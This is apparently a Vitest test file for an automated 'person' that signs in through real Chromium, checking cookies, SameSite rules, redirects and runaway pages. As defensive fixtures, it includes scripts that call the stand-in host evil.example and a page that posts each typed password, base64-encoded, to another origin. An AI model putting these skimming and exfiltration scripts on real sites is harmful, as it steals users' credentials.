import { describe, expect, it } from 'vitest'
import type { Exchange } from '../../src/http/exchange.ts'
import { startChromium } from '../../src/person/chromium/start.ts'
import { chromiumTours } from '../../src/person/chromium/tour.ts'
import { createPerson, type Person } from '../../src/person/person.ts'
import { senderTo } from '../http/test-sender.ts'
import { account, callback, described, signInForm, site, to, unknownLogin } from '../person/sites.ts'
import { browserOfBlock, executable, skipped } from './chromium.ts'

if (executable === undefined) process.stdout.write(`test/browser/person.test.ts ${skipped}\n`)

type Pages = Parameters<typeof site>[0]

describe.skipIf(executable === undefined)('a person at a real Chromium', () => {
  const { browser, cleanups } = browserOfBlock()

  async function at(
    pages: Pages | ((other: string) => Pages),
    elsewhere: Pages = {},
    patience: Parameters<typeof chromiumTours>[1] = {},
  ): Promise<{
    readonly server: Awaited<ReturnType<typeof site>>
    readonly other: Awaited<ReturnType<typeof site>>
    readonly person: Person
    readonly exchanges: readonly Exchange[]
  }> {
    const other = await site(elsewhere)
    const server = await site(typeof pages === 'function' ? pages(other.origin) : pages)
    const { sender, exchanges } = senderTo([
      server.origin,
      other.origin,
      other.origin.replace('127.0.0.1', 'localhost'),
    ])
    cleanups.push(() => sender.close(), server.close, other.close)
    const person = createPerson({
      name: 'alice',
      account,
      sender,
      passwordsAt: [server.origin],
      described,
      beginTour: chromiumTours(browser(), patience),
    })
    return { server, other, person, exchanges }
  }

  it('types, presses, answers, and ends at the redirect URI, which is never contacted', async () => {
    const { server, person, exchanges } = await at(unknownLogin)
    const journey = await person.visit(`${server.origin}/authorize`, { redirectUri: callback })
    expect(journey.kind === 'callback' && Object.fromEntries(journey.params)).toEqual({ code: 'c1', state: 's' })
    expect(journey.pages).toHaveLength(3)
    expect(journey.answers.at(-1)?.header('location')[0]).toContain(callback)
    expect(exchanges.map(({ request }) => `${request.method} ${new URL(request.url).pathname}`)).toEqual([
      'GET /authorize',
      'POST /who',
      'POST /in',
      'GET /question',
      'POST /answer',
    ])
    expect(JSON.stringify(exchanges)).not.toContain(account.password)
  })

  it('keeps its cookies from one journey to the next, and another browser has none', async () => {
    const { server, person } = await at(unknownLogin)
    await person.visit(`${server.origin}/authorize`, { redirectUri: callback })
    const again = await person.visit(`${server.origin}/question`, { redirectUri: callback, consent: 'deny' })
    expect(again.kind === 'callback' && again.params.get('error')).toBe('access_denied')
    expect(again.pages).toHaveLength(1)
    const stopped = await person.atAnotherBrowser().visit(`${server.origin}/question`, { consent: 'stop' })
    expect(stopped.pages.length).toBeGreaterThan(1)
  })

  it('is shown what scripts draw, and goes where they go', async () => {
    const { server, person } = await at({
      '/a': `<div id=app></div><script>setTimeout(() => {
        app.innerHTML = '<form id=f><input id=user autocomplete=username><input id=pass type=password><button>Log in</button></form>'
        f.onsubmit = async (event) => {
          event.preventDefault()
          const body = new URLSearchParams({ user: user.value, pass: pass.value })
          const answer = await fetch('/session', { method: 'POST', body })
          if (answer.ok) location.href = (await answer.text()).trim()
        }
      }, 150)</script>`,
      '/session': ({ form }) =>
        form['pass'] === account.password && form['user'] === account.user
          ? { html: `${callback}?code=c2`, headers: { 'set-cookie': 's=1; Path=/' } }
          : { status: 401 },
    })
    const journey = await person.visit(`${server.origin}/a`, { redirectUri: callback })
    expect(journey.kind === 'callback' && journey.params.get('code')).toBe('c2')
    expect(person.browser.cookies.value(server.origin, 's')).toBe('1')
  })

  it('sends a cookie as a browser does, and not where SameSite forbids it', async () => {
    const seen: string[] = []
    const { server, other, person } = await at(
      {
        '/a': () => ({ html: 'set', headers: { 'set-cookie': 'st=1; Path=/; SameSite=Strict' } }),
        '/back': (_seen, cookie) => {
          seen.push(cookie)
          return { html: 'end' }
        },
      },
      { '/b': ({ path }) => ({ html: `<script>location = '${path.split('?to=')[1] ?? ''}'</script>` }) },
    )
    await person.visit(`${server.origin}/a`)
    await person.visit(`${other.origin.replace('127.0.0.1', 'localhost')}/b?to=${server.origin}/back`)
    await person.visit(`${server.origin}/back`)
    expect(person.browser.cookies.all()).toMatchObject([{ name: 'st', sameSite: 'Strict' }])
    expect(seen).toEqual(['', 'st=1'])
  })

  it('stops before what it was told not to ask for, with the form that was to be sent', async () => {
    const { server, person, exchanges } = await at({
      '/a': `<form method=post action=/b><input type=hidden name=code value=c><input type=hidden name=state value=s></form><script>document.forms[0].submit()</script>`,
      '/b': ({ form }) => ({ html: `got ${form['code']}` }),
    })
    const stopped = await person.visit(`${server.origin}/a`, { before: ({ pathname }) => pathname === '/b' })
    expect(stopped).toMatchObject({ kind: 'before', url: `${server.origin}/b` })
    expect(exchanges).toHaveLength(1)
    if (stopped.kind !== 'before') return
    const gone = await person.follow(stopped.navigation)
    expect(gone.kind === 'page' && gone.page.answer.text).toBe('got c')
    expect(exchanges.at(-1)?.request.headers).toContainEqual(['Origin', server.origin])
  })

  it('goes to no host that the run does not name, by redirect, link or script', async () => {
    const { server, person, exchanges } = await at({
      '/a': () => to('http://evil.example/x'),
      '/b': '<script>fetch("http://evil.example/x", { method: "POST", body: "b", mode: "no-cors" }); new WebSocket("ws://evil.example/"); location = "http://evil.example/y"</script>',
    })
    expect(await person.visit(`${server.origin}/a`)).toMatchObject({ kind: 'elsewhere', url: 'http://evil.example/x' })
    expect(await person.visit(`${server.origin}/b`)).toMatchObject({ kind: 'elsewhere', url: 'http://evil.example/y' })
    const evil = exchanges.filter(({ request }) => request.url.includes('evil.example'))
    expect(evil.length).toBeGreaterThan(1)
    expect(evil.map(({ error }) => error?.code)).toEqual(evil.map(() => 'host-refused'))
  })

  const thieves: readonly (readonly [string, (other: string) => Pages])[] = [
    ['a page elsewhere asks for it', (other) => ({ '/a': () => to(`${other}/login`) })],
    ['a described page elsewhere asks for it', (other) => ({ '/a': () => to(`${other}/authorize`) })],
    ['a form is sent elsewhere', (other) => ({ '/a': signInForm(`${other}/in`) })],
    ['a form is sent on elsewhere', (other) => ({ '/a': signInForm('/in'), '/in': () => to(`${other}/in`, 307) })],
    [
      'a script turns the form to another place',
      (other) => ({
        '/a': `${signInForm('/in')}<script>document.forms[0].onsubmit = () => { document.forms[0].action = '${other}/in' }</script>`,
      }),
    ],
    [
      'a script sends what is typed',
      (other) => ({
        '/a': `${signInForm('/in')}<script>document.querySelector('[type=password]').oninput = (event) => fetch('${other}/in', { method: 'POST', mode: 'no-cors', body: btoa('pass=' + event.target.value) })</script>`,
        '/in': () => to(`${callback}?code=c`),
      }),
    ],
  ]
  it.each(thieves)('gives the password to no other place when %s', async (_how, pages) => {
    const { server, other, person } = await at(pages, { '/login': signInForm('/in'), ...unknownLogin })
    await expect(person.visit(`${server.origin}/a`, { redirectUri: callback })).rejects.toMatchObject({
      code: 'password-withheld',
    })
    const got = JSON.stringify(other.seen)
    expect(got).not.toContain(account.password)
    expect(got).not.toContain(btoa(`pass=${account.password}`))
  })

  it('is let in once or not at all, and says so', async () => {
    const { server, person } = await at({ '/a': signInForm('/in'), '/in': () => to('/a') })
    await expect(person.visit(`${server.origin}/a`)).rejects.toMatchObject({ code: 'sign-in-failed' })
    expect(server.seen.filter(({ method }) => method === 'POST')).toHaveLength(1)
  })

  it('leaves a page that keeps it busy for ever', async () => {
    const pages = { '/a': '<p>busy</p><script>for (;;);</script>' }
    const { server, person } = await at(pages, {}, { page: 1_500, command: 1_000 })
    await expect(person.visit(`${server.origin}/a`)).rejects.toMatchObject({ code: 'page-stuck' })
  })

  it('loads only so much for a page that asks for ever more', async () => {
    const { server, person } = await at(
      {
        '/a': '<p>greedy</p><script>(async () => { for (;;) await fetch("/x").catch(() => {}) })()</script>',
        '/x': '',
      },
      {},
      { page: 4_000 },
    )
    expect((await person.visit(`${server.origin}/a`)).kind).toBe('page')
    expect(server.seen.filter(({ path }) => path === '/x').length).toBeLessThanOrEqual(400)
  })

  it('comes out of circles of redirects and of pages', async () => {
    const { server, person } = await at({
      '/a': () => to('/a'),
      '/b': '<form method=post action=/b><button>Continue</button></form>',
      '/c': '<script>location.reload()</script>',
    })
    await expect(person.visit(`${server.origin}/c`)).rejects.toMatchObject({ code: 'too-many-redirects' })
    await expect(person.visit(`${server.origin}/a`)).rejects.toMatchObject({ code: 'too-many-redirects' })
    await expect(person.visit(`${server.origin}/b`)).rejects.toMatchObject({ code: 'too-many-redirects' })
  })
})

describe('a browser that is not there', () => {
  it('is said in one sentence', async () => {
    await expect(startChromium('/no/such/chromium')).rejects.toMatchObject({
      code: 'no-chromium',
      message: "There is no browser at '/no/such/chromium'.",
    })
  })
})
